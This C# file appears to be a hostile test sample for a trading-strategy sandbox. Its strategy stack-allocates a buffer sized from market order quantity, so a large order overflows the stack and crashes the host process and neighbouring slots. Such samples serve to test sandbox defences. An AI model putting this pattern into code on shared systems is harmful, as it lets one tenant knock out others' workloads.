// Abuses: stackalloc into a span with a length from the market: safe C#, no unsafe keyword.
// Harm: a stack overflow at the first large order.
// Kind: hurts another slot or the process.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.StackallocHugeAttack;

public sealed class StackallocHugeStrategy : Strategy
{
    public override void OnBook(in BookEvent bookEvent)
    {
        Span<long> path = stackalloc long[(int)Math.Min(bookEvent.Quantity.Raw * 10_000, 100_000_000)];
        path.Clear();
        Act(path.Length);
    }

    public override void OnStart() => Context.Subscribe(new InstrumentId(1));

    private long _n;

    private void Act(long leak)
    {
        _n = _n * 31 + leak;
        Price bid = Context.Book(new InstrumentId(1)).BestBid.Price;
        if ((_n & 1) == 0 && bid.Raw > 0)
        {
            Context.Send(NewOrder.Limit(new InstrumentId(1), Side.Buy, bid, 100, tag: _n & 0xFF));
        }
    }

    public override void Save(ref StateWriter writer) => writer.Write(_n);

    public override void Restore(ref StateReader reader) => _n = reader.ReadInt64();
}
